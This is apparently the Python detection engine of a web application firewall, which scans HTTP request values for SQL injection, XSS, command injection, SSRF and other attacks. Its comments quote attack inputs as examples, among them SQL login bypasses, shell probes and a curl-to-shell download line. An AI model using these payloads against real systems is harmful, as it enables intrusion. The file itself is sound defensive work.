"""The detection engine: points → hyperscan pre-filter (one compiled database) → per-type analysers → hits."""
from __future__ import annotations

import logging
import re
import time
import unicodedata
from typing import TYPE_CHECKING, Any, Callable, Final

import hyperscan

from core.events import Hit
from sensor import vpatches
from sensor.detect import (code, crlf, dtd, gc_clock, header_grammar, jwt, ldapi, mail_injection, nosqli, protocol, ptrav,
                           rce, rfi, scanner, sqli, ssi, ssrf, ssti, xss, xxe)
from sensor.detect.base import Finding
from sensor.detect.hsdb import compiled
from sensor.points import Limits, Point, PointMemo, extract_all, graphql
from sensor.points.json import password_name
from sensor.points.decoders import percent_decode, unquote_text

log: Final = logging.getLogger("rampart.sensor.detect")
# the clocks spent() reads after every piece and point, bound once (a module attribute is a lookup per call)
_perf_counter: Final = time.perf_counter
_thread_time: Final = time.thread_time

if TYPE_CHECKING:
    from sensor.rules import RuleSet

THRESHOLD: Final = 0.5          # a hit with score >= THRESHOLD makes the transaction an attack
REPORT_FLOOR: Final = 0.3       # weaker findings are dropped rather than reported
_FLAGS: Final = hyperscan.HS_FLAG_CASELESS | hyperscan.HS_FLAG_DOTALL | hyperscan.HS_FLAG_SINGLEMATCH | hyperscan.HS_FLAG_ALLOWEMPTY
_ANALYSERS: Final = (sqli, xss, rce, ptrav, rfi, ssrf, dtd, jwt)
_RULESETS: Final = (code, ssti, ssi, xxe, crlf, mail_injection, ldapi, nosqli, scanner, sqli)
# Types that make sense only in some places: URLs in Referer/Origin are normal, scanner names matter in headers.
# rfi/ssrf never count in URL or client-IP headers, and in other headers only from _HEADER_URL_FLOOR up.
_NOT_IN_HEADERS: Final = {"rfi", "ssrf"}
# Zero-width space, non-joiner, joiner, word joiner, invisible operators, BOM, soft hyphen, Mongolian vowel separator
_INVISIBLE: Final = dict.fromkeys(map(ord, "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u180e"))
_URL_HEADERS: Final = {"REFERER", "ORIGIN", "LOCATION", "CONTENT-LOCATION", "X-FORWARDED-HOST", "HOST"}
# Proxies write internal addresses into these on every request; only the other headers can carry a URL an app fetches.
_CLIENT_IP_HEADERS: Final = {"X-FORWARDED-FOR", "X-REAL-IP", "FORWARDED", "TRUE-CLIENT-IP", "CF-CONNECTING-IP", "X-CLIENT-IP",
                             "X-ORIGINATING-IP", "X-REMOTE-IP", "X-REMOTE-ADDR", "CLIENT-IP", "VIA", "X-CLUSTER-CLIENT-IP"}
# In any other header (`X-Api-Callback: http://127.0.0.1:9000/`) a near-certain rfi/ssrf finding still counts.
_HEADER_URL_FLOOR: Final = 0.85
# The analysers whose every finding is of such a type: on URL and client-address headers they are not run at all
# (a new Referer is a new URL on every page; its rfi and ssrf analyses were dropped whatever they found).
_URL_ANALYSERS: Final = tuple(m for m in _ANALYSERS if m.TYPE in _NOT_IN_HEADERS)
_NOT_IN_PATHS: Final = {"rce:bare_command", "rce:bin_path"}
# The whole decoded path starts with `/`: read as a command line its first word is an absolute program path
# (`/p/powershell basics`), which only separators (`;id`, `|id`, `$(id)`) can turn into an injection.
_NOT_IN_WHOLE_PATH: Final = {"rce:command_line", "rce:absolute_command"}
# Tool names are fingerprints in a User-Agent; in a URL path they are words (`/docs/nmap-tutorial`, `/menu/vega-bowl`).
# Probe paths are paths; an out-of-band callback host (`x.oastify.com`) is a scanner's mark in any value.
_RULE_ONLY_IN: Final = {"scanner:user_agent": ("header",), "scanner:probe_path": ("header", "path"),
                        "scanner:device_path": ("header", "path"),
                        "scanner:actuator": ("header", "path"), "scanner:backup_probe": ("path",),
                        "scanner:debug_endpoint": ("header", "path"),
                        # a cookie's `;` cuts `x';--` into `x'` and a crumb `--`; a query of just `--` is an argv probe, clean
                        "sqli:comment_name": ("cookie",)}
# Rules about parameter names (`password[]=x` turns the field into an array): a value spelled the same is a word.
_KEY_ONLY: Final = {"nosqli:array_credential", "rce:alias_name", "rce:sqlite_dot_name", "sqli:comment_name", "sqli:backtick_name", "php:function_param"}
# Rules about a value under one parameter name only (a method override naming `__construct`).
_RULE_ONLY_KEYS: Final = {"php:magic_method_override": frozenset(("_method",)), "java:session_file": frozenset(("jsessionid",))}
# Findings that read a value line by line (a command per line, a mail protocol command per line): a GraphQL document
# under `query` has a field per line (`id`, `login`), which is no command.
_LINE_TYPES: Final = {"rce", "mail_injection"}
# Upload rules only make sense on file names: multipart `filename` points and X-Filename style headers.
# (WebDAV's MOVE and COPY name the file they write in `Destination`: `shell.txt` renamed `shell.asp;.txt`)
_UPLOAD_HEADERS: Final = {"X-FILENAME", "X-FILE-NAME", "X-FILE", "FILENAME", "DESTINATION"}
_SERIAL_PREFIXES: Final = ("ro0ab", "kztaa", "cs7qa", "aced0")  # Java serialization: base64 / UTF-16 base64 / hex
# Alphanumeric values are skipped unless they are SQL words that are probes on their own.
_ALNUM_SUSPECTS: Final = sqli.BARE_WORDS | {"xor", "regexp", "rlike", "sysobjects", "xp_regread", "openrowset", "utl_http",
                                            "androxgh0st"}  # (a botnet's check-in value, scanner:tool_marker)
# Headers with a fixed grammar (media types, q-values, codings): only near-certain findings count there.
_STRUCTURED_HEADERS: Final = {"ACCEPT", "ACCEPT-ENCODING", "ACCEPT-LANGUAGE", "ACCEPT-CHARSET", "CACHE-CONTROL", "PRAGMA", "TE",
                              "UPGRADE-INSECURE-REQUESTS", "DNT", "KEEP-ALIVE", "PROXY-CONNECTION", "IF-MODIFIED-SINCE",
                              "IF-NONE-MATCH", "IF-MATCH", "IF-UNMODIFIED-SINCE", "SEC-FETCH-DEST", "SEC-FETCH-MODE",
                              "SEC-FETCH-SITE", "SEC-FETCH-USER", "PRIORITY", "RANGE", "DATE", "EXPECT"}


# A form field name with quotes, spaces or operators in it is a payload the parser cut at its own `=`.
_ODD_NAME: Final = re.compile(r"['\"`()\s;]")


def verdict(hits: list[Hit]) -> str:
    """`attack` when any hit scores at least THRESHOLD (0.5), else `clean`."""
    return "attack" if any(h.score >= THRESHOLD for h in hits) else "clean"


class Engine:
    """Built once: compiles every detector's patterns into one hyperscan database. Not thread-safe (one scratch)."""

    def __init__(self, rules: RuleSet | None = None, limits: Limits | None = None,
                 packs: tuple[str, ...] | None = None, pack_dir: str | None = None) -> None:
        """`rules`: the site's own rules (reloadable); `packs`: virtual-patch packs to apply first (None: all of
        sensor/vpatches, `()`: none); `pack_dir`: newer packs published by the regional API (node sync writes them),
        which replace shipped ones of the same name. Packs run before `rules`, so a site rule can `disable` a pack's
        hit."""
        self.rules = rules
        self.pack_names, self.pack_dir = packs, pack_dir
        self.packs: RuleSet | None = None
        try:
            self.reload_packs()
        except (ValueError, OSError) as exc:
            if pack_dir is None:
                raise
            # the region's packs clash or broke on disk: start with the shipped ones rather than not at all
            log.error("virtual-patch packs in %s not loaded, shipped packs only: %s", pack_dir, exc)
            self.pack_dir = None
            self.reload_packs()
            self.pack_dir = pack_dir
        self.limits = limits or Limits()
        exprs: list[bytes] = []
        self._targets: list[tuple[str, Any]] = []  # per pattern id: ("analyse", module) or ("rule", (type, rule, score))
        for mod in _ANALYSERS:
            for rx in mod.TRIGGERS:
                exprs.append(rx.encode())
                self._targets.append(("analyse", mod))
        for mod in _RULESETS:
            for name, score, rx in mod.RULES:
                exprs.append(rx.encode())
                self._targets.append(("rule", (mod.TYPE, name, score)))
        self._db = compiled(exprs, [_FLAGS] * len(exprs))
        rfi.warm()
        ptrav.warm()
        self._matched: set[int] = set()
        # URL headers of the request being inspected whose raw form the SQL and shell analysers read pair by pair (see
        # _query_url): their percent-decoded forms are not read by them again
        self._split_urls: set[str] = set()
        # Values repeat across requests (user agents, Accept, popular URLs, `page=1`): remember their findings.
        self._cache: dict[tuple, tuple[Finding, ...]] = {}
        self._cache_max = 8192
        self._acache: dict[tuple, Finding | None] = {}  # per-analyser results by value (see _analyse)
        # points of repeated headers, paths, query pairs (None: none remembered, what the tests compare against)
        self._pmemo: PointMemo | None = PointMemo(max_entries=self._cache_max)
        self._gc, self._gc_owner = gc_clock.start()  # leaves the collector's callbacks with this engine

    def reload_packs(self) -> None:
        """(Re)load the packs; raises RuleError/ValueError on a bad pack file, leaving the packs in force as they were."""
        pack_rules = vpatches.load(self.pack_names, self.pack_dir)
        pack_rules.warm()  # their hyperscan indexes, now rather than on the first request's clock
        self.packs = pack_rules if len(pack_rules) else None

    # --- public API
    def inspect(self, request: Any) -> list[Hit]:
        """All hits for one request (request line, headers, body); applies custom rules when the engine has some."""
        hits, _ = self.evaluate(request)
        return hits

    def __call__(self, request: Any) -> list[Hit]:
        """The engine as a plain detector function (what the pipeline calls per transaction)."""
        return self.inspect(request)

    def evaluate(self, request: Any) -> tuple[list[Hit], str | None]:
        """Hits plus the mode override of the custom rules (None when no rule sets one)."""
        return self._with_rules(request, *self._inspect(request, headers_only=False))

    def inspect_headers(self, request: Any) -> list[Hit]:
        """Hits from the request line and headers only, for blocking before the body arrives."""
        hits, _ = self._with_rules(request, *self._inspect(request, headers_only=True))
        return hits

    def _with_rules(self, request: Any, hits: list[Hit], points: list[Point] | None) -> tuple[list[Hit], str | None]:
        mode = None
        if self.packs is not None:
            hits, _ = self.packs.apply(request, hits, points)
        if self.rules is not None:
            hits, mode = self.rules.apply(request, hits, points)
        return hits, mode

    def inspect_value(self, value: str, path: list | None = None) -> list[Hit]:
        """Hits for one value treated as a query parameter (benchmarks, analysts)."""
        return self._point_hits(Point(path or ["get", "q"], value), "")

    # --- internals
    def _on_match(self, id_: int, frm: int, to: int, flags: int, ctx: Any) -> None:
        self._matched.add(id_)

    def _inspect(self, request: Any, headers_only: bool) -> tuple[list[Hit], list[Point] | None]:
        """Detector hits and the points they were found on (None when the parsers failed)."""
        t0, w0 = _thread_time(), _perf_counter()
        collector, gc0 = self._gc, self._gc.spent
        budget = self.limits.cpu_budget_ms / 1000.0

        def spent() -> float:
            """CPU seconds of this request, the collector's pauses left out; below the budget, the wall time instead.
            The thread's CPU clock is a system call (~1 µs), the wall clock is not and is never behind it, so the
            parsers and the loop below can ask after every piece and point: a few hundred hostile characters can cost
            tens of ms (checked every eight points, 64 such fields overran a 50 ms budget up to 360 ms)."""
            wall = _perf_counter() - w0
            if wall <= budget:
                return wall
            return _thread_time() - t0 - (collector.spent - gc0)

        hits: list[Hit] = []
        try:
            hits.extend(protocol.check(request))
            ex = extract_all(request, self.limits, headers_only=headers_only, memo=self._pmemo, clock=spent)
            if not headers_only:
                self._extra_points(ex, request)
        except Exception as exc:  # a parser bug must not take the sensor down; report it as an anomaly
            hits.append(Hit(type="protocol", point=["request"], value=repr(exc)[:256], rule="parser_error", score=0.3))
            return hits, None
        host = getattr(request, "host", "") or ""
        self._split_urls.clear()
        for p in ex.points:
            try:
                hits.extend(self._point_hits(p, host))
            except Exception as exc:  # one odd value must not hide the rest of the request
                hits.append(Hit(type="protocol", point=list(p.path), value=repr(exc)[:256], rule="detector_error", score=0.3))
            if spent() > budget:  # (after every point: see spent)
                ex.over("cpu_budget")
                break
        for what in ex.overlimits:
            if what == "entity_expansion":  # an XML entity bomb is an attack of its own, not only a limit reached
                hits.append(Hit(type="xxe", point=["post", "xml"], value=what, rule="xxe:entity_expansion", score=0.85))
            hits.append(Hit(type="protocol", point=["request"], value=what, rule="overlimit", score=0.6))
        return hits, ex.points

    @staticmethod
    def _extra_points(ex: Any, request: Any) -> None:
        """Values the generic parsers leave implicit: the value part of a parameter *name* that carries an encoded
        `=` (`pay%3D%26%26%28...` arrives as one name), the whole form body when its names are not names (a bare
        SQL fragment split at its own `=`), plain names in ORM lookup syntax (`user__password__startswith`) and names that
        are PHP functions (`?get_defined_vars=1`, code.PHP_FUNCTION_KEYS)."""
        extra: list[tuple[list, str]] = []
        seen: set[str] = set()
        odd_form = False
        for p in ex.points:
            if not p.path or p.path[0] not in ("get", "post") or len(p.path) < 2:
                continue
            if p.path[-1] == "#key":
                name, eq, rest = p.value.partition("=")
                if eq and rest.strip() and len(p.value) <= 4096:
                    extra.append((p.path + ["="], rest))
                if p.path[:2] == ["post", "form_urlencoded"] and _ODD_NAME.search(p.value):
                    odd_form = True
            elif isinstance(p.path[-1], str) and ("__" in p.path[-1] and p.path[-1][:2] != "__"
                                                  or p.path[-1].lower() in code.PHP_FUNCTION_KEYS
                                                  and (p.path[0] == "get" or p.path[1] in ("form_urlencoded", "multipart"))) \
                    and p.path[-1] not in seen:
                seen.add(p.path[-1])
                extra.append((p.path + ["#key"], p.path[-1]))
        if odd_form:
            body = getattr(request, "body", b"") or b""
            if isinstance(body, bytes) and 0 < len(body) <= 4096:
                extra.append((["post", "form_urlencoded", "#raw"], percent_decode(body, plus=True)))
        for path, value in extra:
            ex.add(path, value, 1)  # counted against the point and size limits like any other value

    def _point_hits(self, p: Point, host: str) -> list[Hit]:
        value = p.value
        one_word_agent = False
        if len(value) < 2 or value.isalnum() and len(value) < 24 and value[:5].lower() not in _SERIAL_PREFIXES \
                and value.lower() not in _ALNUM_SUSPECTS and not (value.isdigit() and len(value) >= 10) \
                and not (value[0].isdigit() and sqli.out_of_range(value)):  # `1e309`, see sqli.out_of_range
            if len(value) < 2 or p.path[-1:] != ["USER-AGENT"]:
                if not (rce.command_value(value) and rce.param_role(_param_name(p.path)) == "command"):
                    return []  # (`cmd=id`: a probe where a command is expected goes on to the analysers)
            else:
                one_word_agent = True   # a one-word User-Agent can be a tool's name (`ZmEu`, `masscan`), nothing else
        split = False
        if p.path[0] == "header" and len(p.path) > 1 and p.path[1] in _URL_HEADERS and "?" in value:
            if len(p.path) == 2:
                if "%" in value and _plain_names(value):  # (without a `%` there is no decoded form)
                    self._split_urls.add(str(p.path[1]))
            elif len(p.path) == 3 and p.path[2] == "percent":
                split = p.path[1] in self._split_urls  # (a value encoded twice is decoded again below it, and read)
        if len(value) <= 1024:
            # findings are a pure function of (point path, value, host, split): rfi on a path depends on the host
            key = (tuple(p.path), value, host, split)
            found = self._cache.get(key)
            if found is None:
                found = self._findings(p, value, host, split)
                if len(self._cache) >= self._cache_max:
                    self._cache.clear()
                self._cache[key] = found
        else:
            found = self._findings(p, value, host, split)
        if one_word_agent:
            found = tuple(f for f in found if f.type == "scanner")
        if p.path[2:3] == ["basic"]:  # ["header", "AUTHORIZATION", "basic", "username" | "password", decoders...]
            found = _credential(found, value, p.path[3])
        elif found and p.path[0] == "post" and _password_field(p.path):
            found = _typed_password(found, value)
        if not found:
            return []
        shown = value[:256]
        if p.path[2:4] == ["basic", "password"] and all(f.score < THRESHOLD for f in found):
            shown = f"<password, {len(value)} characters>"  # a reported, not blocked, finding keeps a password out of logs
        if not shown.isascii():  # lone surrogates (undecodable bytes) must not reach JSON encoders
            shown = shown.encode("utf-8", "replace").decode("utf-8")
        return [Hit(type=f.type, point=list(p.path), value=shown, rule=f.rule, score=round(f.score, 3)) for f in found]

    def _findings(self, p: Point, value: str, host: str, split: bool = False) -> tuple[Finding, ...]:
        """What the analysers find on one point; `split`: a URL header's decoded form whose raw form was read pair by
        pair (see _query_url), which the SQL and shell analysers leave alone."""
        norm = value.replace("\x00", "") if "\x00" in value else value
        if not norm.isascii():
            # NFKC turns the acute accent into space + combining mark; some charsets fold it to a quote, so keep it one.
            # Invisible format characters go: `UN\u200bION SEL\u200dECT`, `c\u200cat` are keywords to an app that strips
            # them, and no legitimate text needs one inside an SQL or shell word
            norm = unicodedata.normalize("NFKC", norm.replace("\u00b4", "'")).translate(_INVISIBLE)
        self._matched = set()
        try:
            data = norm.encode("utf-8", "surrogateescape")  # undecodable request bytes go back to what they were
        except UnicodeEncodeError:
            data = norm.encode("utf-8", "replace")
        if "\x00" in value:
            data += b"\x00"  # let the NUL-sensitive patterns see it
        try:
            self._db.scan(data, match_event_handler=self._on_match)
        except hyperscan.error:
            return ()
        raw_xss = None
        if not value.isascii() and norm != value:
            # NFKC turns 7-bit-truncation evasions (¼script¾) into digits; look at the original too
            raw_xss = xss.analyze(value.replace("\x00", ""))
        if not self._matched and raw_xss is None:
            return ()
        kind = p.path[0] if p.path else ""
        in_header = kind == "header"
        hname = str(p.path[1]) if in_header and len(p.path) > 1 else ""
        best: dict[str, Finding] = {}
        gql: list[bool] = []  # computed once, when the first line-reading finding on a `query` point asks

        def put(f: Finding | None) -> None:
            if f is None or f.score < REPORT_FLOOR:
                return
            if in_header and f.rule == "xss:html_tag" and 0.45 <= f.score < THRESHOLD:
                # markup with attributes in a request header (`User-Agent: <img src=//x.example/p.png>`): no client
                # writes a tag there; a log viewer or admin page renders it. (URL and structured headers filter below.)
                f = Finding(f.type, f.rule, 0.55)
            if f.type in _LINE_TYPES and p.path[-1:] == ["query"]:
                if not gql:
                    gql.append(graphql.is_document(value))
                if gql[0]:
                    return  # a GraphQL document's lines are selections (`{\n id\n}`); its strings are points of their own
            only = _RULE_ONLY_IN.get(f.rule)
            if only is not None and kind not in only or f.rule in _KEY_ONLY and p.path[-1:] != ["#key"]:
                return
            if f.rule == "sqli:bare_operator" and not sqli.operator_counts(f.rule, p.path, value):
                return  # `filter[x][condition][operator]=>=`: a condition builder's operator field, see sqli.operator_counts
            if f.rule == "java:qualified_call" and not code.counts(f.rule, value):
                return  # `Attempt to invoke virtual method 'int java.lang.String.length()' on a null object reference`
            if f.type == "nosqli" and not nosqli.counts(f.rule, p.path, value):
                return  # an operator inside a query-builder filter (`filters[slug][$in][0]=`), see nosqli.counts
            keys = _RULE_ONLY_KEYS.get(f.rule)
            if keys is not None and not (p.path and isinstance(p.path[-1], str) and p.path[-1].lower() in keys):
                return
            if f.rule.startswith("upload:") and not (p.path[-1:] == ["filename"] or hname.replace(".", "-").replace("_", "-") in _UPLOAD_HEADERS):
                return
            if in_header and hname in _STRUCTURED_HEADERS and f.score < 0.9:
                return
            if kind == "path" and (f.rule in _NOT_IN_PATHS or f.rule in _NOT_IN_WHOLE_PATH and len(p.path) == 1):
                return  # `/man/bash`, `/bin/tools`: a URL path naming a program is not a shell command line
            if in_header and (f.type in _NOT_IN_HEADERS and (hname in _URL_HEADERS or hname in _CLIENT_IP_HEADERS
                                                            or f.score < _HEADER_URL_FLOOR)
                              or hname in _URL_HEADERS and f.type in ("ptrav", "xss") and f.score < 0.9):
                return
            cur = best.get(f.type)
            if cur is None or f.score > cur.score:
                best[f.type] = f

        seen: set[Any] = set()
        if raw_xss is not None:
            put(raw_xss)
        # A structured header's findings count only from 0.9 (see put); when its value is a plain list
        # (`text/html;q=0.9,*/*;q=0.8`) no analyser reaches that but the SQL one on a catalog's name, and their cold
        # cost is what the value costs. (Dates and entity tags, structured too, never fit: blanks, quotes.)
        plain = hname in _STRUCTURED_HEADERS and header_grammar.is_plain_list(value) and not sqli.names_catalog(norm)
        url_header = hname in _URL_HEADERS or hname in _CLIENT_IP_HEADERS
        pieces: list[tuple[str, str]] | None = None
        whole = False  # (with pieces: read the value whole as well)
        for id_ in sorted(self._matched):
            what, target = self._targets[id_]
            if what == "rule":
                put(Finding(*target))
            elif target not in seen and not plain and not (url_header and target in _URL_ANALYSERS):
                seen.add(target)
                if (target is sqli or target is rce) and ("?" in norm and hname in _URL_HEADERS
                                                          or kind == "cookie" and "&" in norm):
                    if split:
                        continue
                    if pieces is None:
                        if not in_header:
                            pieces = _plain_cookie_query(norm) or []
                        else:
                            raw = len(p.path) == 2
                            pieces = _query_url(norm, raw) or []
                            # a query that is not plain is read whole as well (a logger stores a URL header as sent)
                            whole = raw and not all(_PLAIN_QUERY_VALUE.fullmatch(v) for n, v in pieces if n)
                    if pieces:
                        # read as the request's own URL is: the URL before its query whole, each value on its own
                        for name, piece in pieces:
                            if not name:
                                put(self._analyse(target, piece, piece, p, host))
                                continue
                            f = self._analyse(target, piece, piece, Point(p.path + [name], piece), host)
                            # (rce's reading of a plain value: only what its start adds counts, as the whole reading
                            # saw the rest; a value with shell syntax counts as the request's own would)
                            put(f if target is sqli or f is None or f.rule in rce.PART_RULES
                                or not _PLAIN_QUERY_VALUE.fullmatch(piece) else None)
                        if not whole:
                            continue
                put(self._analyse(target, norm, value, p, host))
        return tuple(best.values())

    def _analyse(self, mod: Any, norm: str, raw: str, p: Point, host: str) -> Finding | None:
        in_path = bool(p.path) and p.path[0] == "path"
        key: tuple[Any, ...]
        if mod is rce:
            key = (mod, norm, "" if in_path else rce.param_role(_param_name(p.path)))  # `q` searches, `cmd` runs
        elif mod is rfi or mod is ssrf:
            # the parameter name decides how a URL reads (`?include=` vs `?next=`, `redirect_uri=` vs `webhook_url=`);
            # a URL path has none
            param = "" if in_path else _param_name(p.path)
            key = (mod, norm, param, host if mod is rfi else "")
        elif mod is dtd:
            key = (mod, norm, p.path[-1:] == ["dtd"])   # a parsed DOCTYPE, or any value
        else:
            key = (mod, raw if mod is ptrav else norm, in_path)
        # The analysers are pure functions of these arguments; one value often reaches several points (a parameter
        # and its decoded form, a form field and the raw body), so the same analysis would run more than once.
        found = self._acache.get(key, self)
        if found is not self:
            return found  # type: ignore[return-value]
        try:
            if mod is ptrav:
                found = ptrav.analyze(raw, is_path=in_path)
            elif mod is xss:
                found = xss.analyze(norm, in_path=in_path)
            elif mod is rfi:
                found = rfi.analyze(norm, str(key[2]), host)
            elif mod is ssrf:
                found = ssrf.analyze(norm, str(key[2]))
            elif mod is dtd:
                found = dtd.analyze(norm, in_doctype=bool(key[2]))
            elif mod is rce:
                found = rce.analyze(norm, role=str(key[2]))
            else:
                found = mod.analyze(norm)
        except RecursionError:
            found = None
        if len(norm) <= 1024:
            if len(self._acache) >= self._cache_max:
                self._acache.clear()
            self._acache[key] = found
        return found


# A query of plain words and numbers (`?q=red+shirts&page=2`, `datestamp=Sat+Nov+28+2026+14:33:12`): names of letters,
# digits and `_.-[]` that start with a letter or `_` (`?1=1` keeps the whole reading), values of letters, digits, blanks
# and `.-_~,:+` (see _plain_pairs).
_PLAIN_QUERY_NAME: Final = re.compile(r"[A-Za-z_][A-Za-z0-9_.\-\[\]]{0,63}")
_PLAIN_QUERY_VALUE: Final = re.compile(r"[\w .\-~,:+]*")
_URL_SCHEME: Final = re.compile(r"https?://[^\s/?#]+", re.I)


def _plain_pairs(query: str, decode: bool, any_value: bool = False) -> list[tuple[str, str]] | None:
    """(name, value) of each non-empty value of `query` (`name=value&…`; values percent- and plus-decoded when
    `decode`) when every pair is plain (with `any_value`: every name); None otherwise.

    A value like that is often new on every request: a Referer's search page, a consent cookie's time stamp. Read whole,
    its `=` and `&` wake the SQL and shell analysers on all of it (~70 µs of a ~115 µs browser request for a Referer,
    ~110 µs for OneTrust's consent cookie). The request's own URL is read as its parameters: a plain query gives nothing
    more read whole, and most of its values repeat from request to request, so their analyses are cached. Anything
    else (quotes, separators, brackets, `=` in a value, `%00`, a URL) keeps the whole reading."""
    out: list[tuple[str, str]] = []
    for seg in query.split("&"):
        if not seg:
            continue
        name, eq, raw = seg.partition("=")
        if not eq or not _PLAIN_QUERY_NAME.fullmatch(name):
            return None
        value = unquote_text(raw, True) if decode and ("%" in raw or "+" in raw) else raw
        if not any_value and not _PLAIN_QUERY_VALUE.fullmatch(value):
            return None
        if value.strip():
            out.append((name, value))
    return out


def _query_url(url: str, raw: bool = False) -> list[tuple[str, str]] | None:
    """("", the URL up to its query), then its query's pairs with the values decoded, when `url` is an http(s) URL
    without a fragment whose query is plain (see _plain_pairs) or, `raw`, whose names all are; None otherwise.

    A `raw` URL header (`Referer`) is read as sent. Its percent-decoded form is a string no server reads: an app that
    reads the URL's query (an analytics job taking a search engine's `q`) splits it at its `&` and decodes each value,
    and a logger stores the header as sent (read whole as well when a value is not plain: the raw form is what breaks
    out of the logger's INSERT). Read whole, the decoded form made SQL or a pipeline of a shop's filters
    (`size=55"-65"`, `category=0|All|…`) and of a Jira query; when the raw form is read here, the engine leaves the
    decoded one to the other analysers (see _plain_names)."""
    if "#" in url or not _URL_SCHEME.match(url):
        return None
    base, _, query = url.partition("?")
    pairs = _plain_pairs(query, True, raw)
    if raw and "%" in base:
        base = unquote_text(base, False)  # a server decodes its path too
    return None if pairs is None else [("", base)] + pairs


def _plain_names(url: str) -> bool:
    """Whether _query_url(url, raw=True) reads `url`: an http(s) URL without a fragment whose query's pairs all have a
    `=` and a plain name (see _PLAIN_QUERY_NAME)."""
    if "#" in url or not _URL_SCHEME.match(url):
        return False
    return all(not seg or "=" in seg and _PLAIN_QUERY_NAME.fullmatch(seg.partition("=")[0]) is not None
               for seg in url.partition("?")[2].split("&"))


def _plain_cookie_query(value: str) -> list[tuple[str, str]] | None:
    """The pairs of a cookie whose value is a plain query of two pairs or more (OneTrust's `OptanonConsent=
    isGpcEnabled=0&datestamp=…&groups=C0001:1,C0002:0`); the cookie parser has decoded it already. None otherwise."""
    pairs = _plain_pairs(value, False)
    return pairs if pairs is not None and value.count("=") >= 2 else None


_NOT_NAMES: Final = frozenset(("percent", "html", "js", "base64", "gzip", "#key", "array"))


def _param_name(path: list) -> str:
    """The parameter a point's value belongs to: the last name in its path, decoders and markers aside."""
    for i in range(len(path) - 1, -1, -1):  # (an index loop: mypyc cannot compile reversed() over list[Any])
        x = path[i]
        if isinstance(x, str) and x not in _NOT_NAMES:
            return x
    return ""


def _password_field(path: list) -> bool:
    """A form or JSON field that holds a password as typed (`passwd`, `new_password`, `password_confirmation`, `pwd`);
    the field's *name* point (`#key`) is no password."""
    return "#key" not in path and password_name(_param_name(path[2:]))


# Findings that symbol-rich random passwords produce by chance (each fires on 2 to 130 of 20,000 random 8-20 character
# passwords drawn from all printable symbols, stop 20; bench/password_bench.py): a quote then `;` or `<>`, `&` or `|` before letters, `$(`.
# Login bypasses and probes keep their own rules (`' or 1=1--`, `'||'1'='1`: sqli:quote_logic; `admin'--`; `$(id)`;
# `;id`; `*)(|(objectClass=*)`), and so does anything of three words or more.
_PASSWORD_SHAPES: Final = frozenset((
    "sqli:quote_stacked", "sqli:quote_operator", "sqli:quote_paren", "sqli:paren_breakout", "sqli:system_variable",
    "rce:chained_command", "rce:variable_command", "rce:arithmetic_expansion", "rce:command_terminated",
    "rce:command_line", "rce:process_substitution", "php:variable_call", "php:open_tag_end", "perl:injection",
    "ruby:injection"))


# ... but a value that is *only* an operator between two quotes (`'='`, `'^'`, `'-'`, `"*"`), or that with the same
# word on both sides (`x'='x`, `1'='1`), is the login bypass itself: `pass=''=''` is `(pass='')=''`, true for every row
# (`''-''`, `''^''`, `''*''` make the password column compare with 0). No password policy lets 3 characters through, and
# a random password never mirrors its own word around the operator.
_QUOTE_BYPASS: Final = re.compile(r"""^(\w{0,16})(['"])\s*(?:=|==|<>|!=|<=>|\^|-|\*|\+|%|&|\||/|<|>|<=|>=)\s*\2\1$""")


def _typed_password(found: tuple[Finding, ...], value: str) -> tuple[Finding, ...]:
    """Findings on a form or JSON password field: chance shapes of a strong password are reported, not blocked."""
    if len(value.split()) >= 3 or _QUOTE_BYPASS.match(value):
        return found
    return tuple(f._replace(score=0.45) if f.rule in _PASSWORD_SHAPES and f.score >= THRESHOLD else f for f in found)


def _credential(found: tuple[Finding, ...], value: str, field: Any) -> tuple[Finding, ...]:
    """Findings on a decoded HTTP Basic user name or password (sensor/points/headers.py). Tool names are names people
    have (`vega`, `medusa`); a password is random text by design, where quotes, `;`, `|`, backticks and `$` fall into
    injection shapes by chance (about 3 in 100 random 8-20 character passwords drawn from all symbols), so on a password
    only a near-certain finding on a value of three words or more (`' or 1=1--`, `;curl http://x/y|sh;echo '`) counts
    as an attack; the rest are reported."""
    out = []
    for f in found:
        if f.rule == "scanner:user_agent":
            continue
        if field == "password" and f.score >= THRESHOLD and not (f.score >= 0.85 and len(value.split()) >= 3):
            f = f._replace(score=0.45)
        out.append(f)
    return tuple(out)


DetectorCallable = Callable[[Any], list[Hit]]
